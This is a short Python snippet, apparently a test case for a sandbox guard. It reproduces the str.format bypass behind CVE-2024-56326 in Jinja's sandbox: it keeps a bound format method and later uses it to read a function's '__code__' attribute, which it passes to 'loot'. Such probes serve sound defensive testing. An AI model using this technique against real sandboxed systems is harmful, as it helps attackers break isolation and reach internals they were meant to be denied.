# aim: keep the bound method and call it later
# mechanism: the attribute is read without being called
# source: CVE-2024-56326 (Jinja's sandbox)
# language: guard
# reason: str.format reads the attributes its template names
# jail: process
# plain: loot

import textwrap

render = "{0.__code__}".format
loot(render(textwrap.dedent))
